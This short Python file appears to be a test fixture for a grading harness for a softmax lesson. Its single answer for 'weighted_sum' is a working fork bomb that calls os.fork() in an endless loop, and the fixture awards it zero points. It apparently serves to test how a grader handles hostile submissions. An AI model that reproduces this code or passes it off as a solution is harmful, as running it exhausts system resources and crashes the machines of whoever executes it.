"""Runs a fork bomb as soon as its last answer is called.

The function deserves nothing, the others keep their points.
"""

ENDLESS = True
LESSON = "01_softmax"
DESERVES = {"weighted_sum": 0}
ANSWERS = {
    "weighted_sum": """
import os

def weighted_sum(weights, values):
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""
}
